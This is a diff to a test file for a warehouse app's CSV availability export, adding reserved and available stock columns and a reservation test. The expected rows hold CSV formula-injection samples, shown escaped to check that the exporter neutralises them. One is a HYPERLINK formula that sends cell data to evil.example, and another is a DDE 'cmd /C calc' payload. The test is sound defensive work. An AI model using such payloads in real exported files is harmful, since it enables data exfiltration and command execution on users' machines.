@@ -7,9 +7,11 @@ import { exportAvailabilityCsv } from "./availability-export";
 let t: TestDb;
 let manager: string;
 let operator: string;
+let key: string;
 
-test.beforeAll(async ({ db, key }) => {
+test.beforeAll(async ({ db, key: k }) => {
   t = db;
+  key = k;
   await seedWarehouse(t.prisma, "M1");
   await seedWarehouse(t.prisma, "M2");
   await t.pool.query(
@@ -64,7 +66,7 @@ describe("GET /api/esportazioni/disponibilita", () => {
     expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="disponibilita-\d{4}-\d{2}-\d{2}\.csv"$/);
     const parts = await chunks(res);
     // The header goes out first, alone; then one chunk per page of 500.
-    expect(parts[0]).toBe("\uFEFFcodice;descrizione;giacenza;in_arrivo;giacenza_M1;giacenza_M2\n");
+    expect(parts[0]).toBe("\uFEFFcodice;descrizione;giacenza;in_arrivo;prenotata;disponibile;giacenza_M1;giacenza_M2\n");
     expect(parts).toHaveLength(4);
     const lines = parts
       .join("")
@@ -72,15 +74,15 @@ describe("GET /api/esportazioni/disponibilita", () => {
       .trimEnd()
       .split("\n");
     expect(lines).toHaveLength(1 + 1201);
-    expect(lines[1]).toBe("ART-0001;Articolo 1;0;0;0;0");
-    expect(lines).toContain('VITE;"Vite; ""speciale""";12,5;0;12,5;0');
-    expect(lines).toContain("ART-0007;Articolo 7;3;0;3;0");
+    expect(lines[1]).toBe("ART-0001;Articolo 1;0;0;0;0;0;0");
+    expect(lines).toContain('VITE;"Vite; ""speciale""";12,5;0;0;12,5;12,5;0');
+    expect(lines).toContain("ART-0007;Articolo 7;3;0;0;3;3;0");
   });
 
   test("the screen's filters apply; a bad one is refused like on /api/v1", async () => {
     const m2 = (await t.pool.query("SELECT id FROM magazzini WHERE codice = 'M2'")).rows[0].id;
     const filtered = (await chunks(await get(`?cerca=vite&magazzino=${m2}`, manager))).join("");
-    expect(filtered).toBe('\uFEFFcodice;descrizione;giacenza;in_arrivo\nVITE;"Vite; ""speciale""";0;0\n');
+    expect(filtered).toBe('\uFEFFcodice;descrizione;giacenza;in_arrivo;prenotata;disponibile\nVITE;"Vite; ""speciale""";0;0;0;0\n');
     const bad = await get("?limite=5", manager);
     expect(bad.status).toBe(422);
     expect(await bad.json()).toMatchObject({ codice: "filtro_non_valido", campo: "limite" });
@@ -105,11 +107,39 @@ describe("GET /api/esportazioni/disponibilita", () => {
       .trimEnd()
       .split("\n");
     expect(lines.slice(1)).toEqual([
-      `FORMULA-1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Dettagli"")";0;0;0;0`,
-      "FORMULA-2;'@SUM(1+1)*cmd|' /C calc'!A0;0;0;0;0",
-      "FORMULA-3;'-2+3;0;0;0;0",
-      "FORMULA-4;'+39 051;0;0;0;0",
-      "FORMULA-5;'\tnascosto;0;0;0;0",
+      `FORMULA-1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Dettagli"")";0;0;0;0;0;0`,
+      "FORMULA-2;'@SUM(1+1)*cmd|' /C calc'!A0;0;0;0;0;0;0",
+      "FORMULA-3;'-2+3;0;0;0;0;0;0",
+      "FORMULA-4;'+39 051;0;0;0;0;0;0",
+      "FORMULA-5;'\tnascosto;0;0;0;0;0;0",
+    ]);
+  });
+
+  test("prenotata and disponibile beside giacenza, as GET /disponibilita has them; a past day's file has neither", async () => {
+    await t.pool.query("INSERT INTO clienti (codice, ragione_sociale, data) VALUES ('C-CSV', 'Cliente CSV', current_date)");
+    const reservation = {
+      riferimento: "CSV-1",
+      magazzino: "M1",
+      cliente: "C-CSV",
+      righe: [{ numero_riga: 1, codice: "VITE", quantita: 4 }],
+    };
+    const held = await rest("POST", "/prenotazioni", { key, body: { prenotazioni: [reservation] } });
+    expect(held.body.righe[0].esito, JSON.stringify(held.body)).toBe("creata");
+    const text = async (query: string) =>
+      (await chunks(await get(query, manager)))
+        .join("")
+        .replace(/^\uFEFF/, "")
+        .trimEnd()
+        .split("\n");
+    expect(await text("?cerca=vite")).toEqual([
+      "codice;descrizione;giacenza;in_arrivo;prenotata;disponibile;giacenza_M1;giacenza_M2",
+      'VITE;"Vite; ""speciale""";12,5;0;4;8,5;12,5;0',
+    ]);
+    const api = await rest("GET", "/disponibilita?codice=VITE", { key });
+    expect(api.body.disponibilita[0]).toMatchObject({ giacenza: "12.5", prenotata: "4", disponibile: "8.5" });
+    expect(await text("?cerca=vite&a=2020-01-01")).toEqual([
+      "codice;descrizione;giacenza;in_arrivo;giacenza_M1;giacenza_M2",
+      'VITE;"Vite; ""speciale""";0;0;0;0',
     ]);
   });
 });
